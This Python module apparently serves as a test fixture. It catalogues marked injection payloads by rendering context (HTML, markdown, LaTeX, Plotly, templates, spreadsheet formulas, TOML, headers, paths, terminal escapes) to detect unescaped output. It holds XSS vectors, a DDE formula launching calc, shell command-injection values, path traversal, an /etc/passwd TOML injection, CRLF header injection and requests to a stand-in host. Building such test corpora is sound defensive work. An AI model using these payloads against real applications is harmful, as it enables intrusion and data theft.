"""Texts that would do something wherever they are not shown as they are written, and how one would notice.

Each holds a word that is in no other. Wherever that word is shown, the letters around it must be shown too: what a page
leaves out is what it has taken for a command.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

HOST = "canary.invalid"  # whoever asks it for something does so because of a payload
FLAG = "hit"  # what a script that ran would set in the page's window
Kind = Literal[
    *("html", "markdown", "latex", "directive", "plotly", "template", "formula", "toml", "regex", "path", "header"),
    *("terminal",),
]
Sign = Literal[
    "runs",  # the page's window has the flag, or a dialog opened
    "asks",  # a request to the host
    "shows",  # an element, or other letters than are written
    "counts",  # a cell that a spreadsheet takes for a formula
    "adds",  # a key, a line or a header more than was written
    "matches",  # rows that do not hold it
    "leaves",  # a file outside of where it belongs
]


@dataclass(frozen=True)
class Payload:
    """Hold one text, what it is written in, and how one would notice that it took effect.

    Parameters
    ----------
    word : str
        In the text, and in no other payload.
    """

    word: str
    kind: Kind
    sign: Sign
    text: str


_TEXTS: dict[tuple[Kind, Sign], tuple[str, ...]] = {
    ("html", "runs"): (
        "<script>window.hit=1</script>WORD",
        "<img src=x onerror=window.hit=1>WORD",
        "<img src=x onerror=alert(1) alt=WORD>",
        "<svg onload=window.hit=1>WORD</svg>",
        "<svg><script>window.hit=1</script>WORD",
        "<details open ontoggle=window.hit=1>WORD",
        "<input autofocus onfocus=window.hit=1 value=WORD>",
        "<iframe srcdoc='<script>parent.hit=1</script>'>WORD",
        "<body onload=window.hit=1>WORD",
        '"><script>window.hit=1</script>WORD',
        "'><img src=x onerror=window.hit=1>WORD",
        '" onmouseover="window.hit=1" x="WORD',
        "' autofocus onfocus='window.hit=1' x='WORD",
        "</script><script>window.hit=1</script>WORD",
        "</style><script>window.hit=1</script>WORD",
        "</title><script>window.hit=1</script>WORD",
        "</textarea><script>window.hit=1</script>WORD",
        "--><script>window.hit=1</script>WORD",
        "]]><script>window.hit=1</script>WORD",
        "<<script>window.hit=1//<</script>WORD",
        "<math><mtext></mtext><img src=x onerror=window.hit=1>WORD",
        "&lt;img src=x onerror=window.hit=1&gt;WORD",
        "<a href=javascript:window.hit=1>WORD</a>",
        "\\u003cimg src=x onerror=window.hit=1\\u003eWORD",
        "</script><!--<script>WORD",
    ),
    ("html", "asks"): (
        "<img src=http://HOST/WORD>",
        "<link rel=stylesheet href=http://HOST/a.css>WORD",
        "<iframe src=http://HOST/WORD></iframe>",
        "<object data=http://HOST/WORD></object>",
        "<video poster=http://HOST/WORD></video>",
        "<meta http-equiv=refresh content='0;url=http://HOST/WORD'>",
        "<style>@import 'http://HOST/a.css';</style>WORD",
        "<p style='background:url(http://HOST/a)'>WORD</p>",
        "<base href=http://HOST/>WORD",
    ),
    ("html", "shows"): (
        "<b>WORD</b>",
        "<h1>WORD</h1>",
        "<marquee>WORD</marquee>",
        "<form action=http://HOST><button>WORD</button></form>",
        "<!-- WORD -->",
        "&amp;WORD&copy;&#x3C;",
        "<div style=position:fixed;inset:0>WORD</div>",
    ),
    ("markdown", "asks"): ("![WORD](http://HOST/a.png)", "![WORD][1]", "[![WORD](http://HOST/b.png)](http://HOST)"),
    ("markdown", "runs"): ("[WORD](javascript:window.hit=1)", "<javascript:window.hit=1//WORD>"),
    ("markdown", "shows"): (
        "**WORD**",
        "*WORD*",
        "__WORD__",
        "_WORD_",
        "~~WORD~~",
        "`WORD`",
        "``` WORD ```",
        "# WORD",
        "> WORD",
        "- WORD",
        "1. WORD",
        "- [ ] WORD",
        "| WORD | b | |---|---|",
        "--- WORD",
        "[WORD](http://HOST)",
        "<http://HOST/WORD>",
        "http://HOST/WORD",
        "www.HOST/WORD",
        "WORD@HOST",
        "[^1] WORD [^1]: x",
        "WORD\\*\\_",
        "WORD&nbsp;",
        "    WORD",
    ),
    ("latex", "shows"): (
        "$WORD$",
        "$$WORD$$",
        "\\(WORD\\)",
        "\\[WORD\\]",
        "$\\href{http://HOST}{WORD}$",
        "$\\htmlClass{a}{WORD}$",
        "$\\color{red}{WORD}$",
        "\\begin{align}WORD\\end{align}",
        "$`WORD`$",
    ),
    ("latex", "asks"): ("$\\includegraphics{http://HOST/WORD.png}$",),
    ("directive", "shows"): (
        ":red[WORD]",
        ":blue-background[WORD]",
        ":rainbow[WORD]",
        ":small[WORD]",
        ":orange-badge[WORD]",
        ":material/home: WORD",
        ":smile: WORD",
        ":streamlit: WORD",
        "WORD -> <- -- >= <=",
        ":color[WORD]{foreground=red}",
        ":red[:material/home:WORD]",
    ),
    ("plotly", "shows"): (
        "<b>WORD</b><br>x",
        "<a href='http://HOST'>WORD</a>",
        "<sup>WORD</sup>",
        "<span style='color:red'>WORD</span>",
        "<em>WORD</em><extra></extra>",
        "WORD%{x}",
        "WORD %{customdata[0]}",
        "&#60;b&#62;WORD",
    ),
    ("plotly", "runs"): ("<a href='javascript:window.hit=1'>WORD</a>", "<a href=' javascript:window.hit=1'>WORD</a>"),
    ("template", "shows"): (
        "{WORD}",
        "WORD{target}",
        "WORD{0.__class__}",
        "WORD {source!r} {{7*7}}",
        "WORD%s%(a)s%n",
        "WORD${7*7}",
        "WORD{{constructor.constructor('window.hit=1')()}}",
        "WORD\\1\\g<0>",
    ),
    ("formula", "counts"): (
        "=1+1+WORD",
        '=HYPERLINK("http://HOST","WORD")',
        "+1+WORD",
        "-1-WORD",
        "@SUM(WORD)",
        "=cmd|' /C calc'!WORD",
        "\t=1+WORD",
        '=WEBSERVICE("http://HOST/WORD")',
    ),
    ("toml", "adds"): (
        'WORD"\nengine = "spark',
        "WORD'''\"\"\"",
        "WORD]\n[source]\npath = '/etc/passwd'",
        "WORD\\",
        'WORD\\u0000\\"',
        "WORD # comment",
    ),
    ("regex", "matches"): (
        ".*|WORD",
        "(WORD+)+$",
        "[WORD",
        "(?i)WORD|.",
        "WORD)|(.",
        "\\bWORD\\b|\\w",
    ),
    ("path", "leaves"): (
        "../../WORD",
        "..\\..\\WORD",
        "/var/WORD",
        "C:\\WORD",
        "~/WORD",
        "$HOME/WORD",
        "file:///var/WORD",
        "|touch WORD",
        "`touch WORD`",
        "WORD; touch WORD",
        "$(touch WORD)",
    ),
    ("header", "adds"): (
        "WORD\r\nSet-Cookie: WORD=1",
        "WORD\nX-WORD: 1",
        'WORD"; filename="a.exe',
        "WORD%0d%0aX: 1",
        "WORD\u2028X: 1",
    ),
    ("terminal", "shows"): (
        "\x1b[2JWORD",
        "\x1b]8;;http://HOST\x1b\\WORD\x1b]8;;\x1b\\",
        "\x1b]0;WORD\x07",
        "\u202eWORD",
        "WORD\r\x1b[1A",
        "::error::WORD",
    ),
}


def _payloads() -> tuple[Payload, ...]:
    found = []
    for (kind, sign), texts in _TEXTS.items():
        for text in texts:
            word = f"hit{len(found):03d}"
            found.append(Payload(word, kind, sign, text.replace("WORD", word).replace("HOST", HOST)))
    return tuple(found)


PAYLOADS = _payloads()
